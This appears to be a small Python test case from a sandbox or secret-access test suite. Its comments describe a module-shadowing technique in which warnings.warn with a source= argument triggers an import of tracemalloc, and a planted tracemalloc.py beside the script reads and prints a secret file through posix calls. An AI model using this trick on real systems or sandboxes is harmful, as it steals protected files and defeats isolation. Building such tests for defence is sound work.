# technique: a warning with a source= imports tracemalloc: ours
# goal: read-secret
# source: sys.path[0]
# beside: tracemalloc.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
import warnings
warnings.warn('look', source=object())
